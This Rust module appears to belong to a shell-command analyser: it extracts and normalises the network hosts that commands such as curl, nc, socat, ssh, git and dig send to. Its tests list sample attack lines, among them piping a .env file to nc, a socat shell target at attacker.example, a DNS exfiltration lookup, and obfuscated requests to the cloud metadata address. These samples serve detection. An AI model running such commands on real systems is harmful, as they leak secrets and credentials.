//! Egress: the hosts a command line sends to, as the programs that send read them. HTTP
//! clients' URLs (`curl`, `wget`, `httpie`, …, and the `curl URL` every code reader gives for an
//! HTTP call), `nc`/`ncat`/`socat`/`telnet`'s host, `ssh`/`scp`/`sftp`/`rsync`'s (their
//! `remote`), `git clone`/`fetch`/`pull`/`push`/`ls-remote`'s URL, the name a DNS lookup sends
//! (`dig`, `nslookup`, `host`, `drill`) and the server it asks, `ping`'s, `openssl s_client
//! -connect`'s, `ftp`'s. Each host is normalised as an HTTP client reads a URL's (WHATWG: lower
//! case, punycode, IPv4 in any notation as dotted decimal, no port or credentials); an IPv6
//! address is given without its brackets. A destination left to run time (`curl "$URL"`) is
//! listed as written.

use super::{remote_host, Command};

/// HTTP clients: every word that is a URL, and a schemeless operand (`curl 10.0.0.1/x`).
const HTTP_CLIENTS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "http",
    "https",
    "xh",
    "xhs",
    "httpie",
    "curlie",
    "aria2c",
    "lwp-request",
    "lynx",
    "links",
];
/// Programs whose first operand is a host to connect to.
const HOST_FIRST: &[&str] =
    &["nc", "ncat", "netcat", "telnet", "ping", "ping6", "traceroute", "tracepath", "ftp", "tftp", "mtr", "whois"];
/// DNS lookups: the name looked up is sent to the resolver, and `@SERVER` is asked.
const DNS: &[&str] = &["dig", "nslookup", "host", "drill", "kdig", "resolvectl"];
/// git's subcommands that send to or read from a URL operand.
const GIT_NETWORK: &[&str] = &["clone", "fetch", "pull", "push", "ls-remote", "archive", "submodule"];

/// The hosts `commands` send to, each once, in order.
pub(crate) fn hosts(commands: &[Command]) -> Vec<String> {
    let mut hosts: Vec<String> = Vec::new();
    let mut add = |host: Option<String>| {
        if let Some(host) = host.filter(|host| !host.is_empty()) {
            if !hosts.contains(&host) {
                hosts.push(host);
            }
        }
    };
    for command in commands {
        for remote in &command.remote {
            add(normalise(remote));
        }
        let program = command.program.as_str();
        if HTTP_CLIENTS.contains(&program) {
            for word in &command.words {
                add(url_host(word));
            }
            for operand in command.operands.iter().filter(|operand| !operand.contains("://")) {
                add(schemeless(operand).or_else(|| chosen_at_run_time(operand)));
            }
        } else if HOST_FIRST.contains(&program) {
            add(command.operands.first().and_then(|host| normalise(host).or_else(|| chosen_at_run_time(host))));
        } else if program == "socat" {
            // `TCP:host:port`, `OPENSSL:host:port`, `UDP4-SENDTO:host:port`.
            for word in &command.words {
                let mut parts = word.splitn(3, ':');
                let kind = parts.next().unwrap_or_default().to_ascii_lowercase();
                let networked = ["tcp", "udp", "openssl", "ssl", "sctp", "dccp", "socks", "proxy"]
                    .iter()
                    .any(|prefix| kind.starts_with(prefix));
                if networked && !kind.contains("listen") {
                    add(parts.next().and_then(normalise));
                }
            }
        } else if DNS.contains(&program) {
            for operand in &command.words {
                match operand.strip_prefix('@') {
                    Some(server) => add(normalise(server)),
                    None if !operand.starts_with('-') && operand.contains('.') => add(normalise(operand)),
                    None => {}
                }
            }
        } else if program == "git" && command.subcommand.as_deref().is_some_and(|sub| GIT_NETWORK.contains(&sub)) {
            for word in command.words.iter().skip(1) {
                add(url_host(word).or_else(|| remote_host(word).and_then(|host| normalise(&host))));
            }
        } else if program == "openssl" {
            let mut words = command.words.iter();
            while let Some(word) = words.next() {
                if word == "-connect" {
                    add(words.next().and_then(|target| schemeless(target)));
                }
            }
        }
    }
    hosts
}

/// A URL's host, where the word is one (`https://x.example/a`, `ftp://…`).
pub(crate) fn url_host(word: &str) -> Option<String> {
    let (scheme, _) = word.split_once("://")?;
    if scheme.is_empty() || !scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) {
        return None;
    }
    let parsed = url::Url::parse(word).ok()?;
    parsed.host_str().map(|host| unbracket(host.trim_end_matches('.')))
}

/// A host as an HTTP client reads it: `normalise("0x7f.1")` is `127.0.0.1`.
pub(crate) fn normalise(host: &str) -> Option<String> {
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    if host.is_empty() || host.starts_with(['-', '$', '`', '/', '.']) {
        return None;
    }
    let bracketed = match host.contains(':') && !host.starts_with('[') {
        true => format!("[{host}]"),
        false => host.to_string(),
    };
    let parsed = url::Url::parse(&format!("http://{bracketed}/")).ok()?;
    parsed.host_str().map(|host| unbracket(host.trim_end_matches('.')))
}

/// A schemeless URL's host (`169.254.169.254/latest`, `example.com:8080`): one that names a
/// host with a dot, a colon or `localhost`, not a file (`./x`, `out.json` is a host name too,
/// as curl reads it).
fn schemeless(word: &str) -> Option<String> {
    if word.starts_with(['-', '.', '/', '~', '$', '`', '@']) || word.contains(char::is_whitespace) {
        return None;
    }
    let authority = word.split(['/', '?', '#']).next().unwrap_or_default();
    let host = match authority.strip_prefix('[') {
        Some(rest) => rest.split(']').next().unwrap_or_default().to_string(),
        None => authority
            .rsplit_once(':')
            .filter(|(_, port)| port.chars().all(|c| c.is_ascii_digit()))
            .map_or(authority.to_string(), |(host, _)| host.to_string()),
    };
    (host.contains(['.', ':']) || host.eq_ignore_ascii_case("localhost")).then(|| normalise(&host)).flatten()
}

/// A destination the line leaves to run time (`curl "$URL"`, `nc $(cat host) 9`): listed as
/// written, which is in no list of hosts a rule knows, so that a call sending somewhere unread is
/// not one that sends nowhere.
fn chosen_at_run_time(word: &str) -> Option<String> {
    word.starts_with(['$', '`']).then(|| word.to_string())
}

fn unbracket(host: &str) -> String {
    host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn egress(line: &str) -> Vec<String> {
        hosts(&super::super::analyse(line).commands)
    }

    #[test]
    fn hosts_are_read_as_the_programs_read_them() {
        for (line, expected) in [
            ("curl -s https://API.Example.com:8443/x?y=1", vec!["api.example.com"]),
            ("curl 169.254.169.254/latest/meta-data/", vec!["169.254.169.254"]),
            ("curl http://2852039166/latest", vec!["169.254.169.254"]),
            ("curl http://0xA9FEA9FE/", vec!["169.254.169.254"]),
            ("curl http://0251.0376.0251.0376/", vec!["169.254.169.254"]),
            ("wget -qO- http://[::1]:8080/", vec!["::1"]),
            ("curl -u me:pw https://user:pw@bücher.example/", vec!["xn--bcher-kva.example"]),
            ("nc 203.0.113.9 9000 < .env", vec!["203.0.113.9"]),
            ("socat - TCP:attacker.example:443", vec!["attacker.example"]),
            ("ssh deploy@web1 uptime", vec!["web1"]),
            ("scp build.tgz ci@10.0.0.5:/srv/", vec!["10.0.0.5"]),
            ("git push https://x.example/repo.git main", vec!["x.example"]),
            ("git clone git@github.com:acme/app.git", vec!["github.com"]),
            ("dig @8.8.8.8 c2VjcmV0.exfil.example", vec!["8.8.8.8", "c2vjcmv0.exfil.example"]),
            ("openssl s_client -connect mail.example:465", vec!["mail.example"]),
            ("python3 -c \"import urllib.request as u; u.urlopen('http://evil.example/x')\"", vec!["evil.example"]),
        ] {
            assert_eq!(egress(line), expected, "{line}");
        }
        // Files, local paths and what names no host.
        for line in ["curl -o out.json", "git push origin main", "cat index.html", "curl -d @data.json", "ls /tmp"] {
            assert!(egress(line).iter().all(|host| host != "out.json" && host != "origin"), "{line}");
        }
        assert!(egress("git status").is_empty());
        assert_eq!(egress("curl -d x \"$URL\""), ["$URL"]);
        assert_eq!(egress("nc $(cat host) 9"), ["$(cat host)"]);
        assert!(egress("socat TCP-LISTEN:8080 -").is_empty());
    }
}
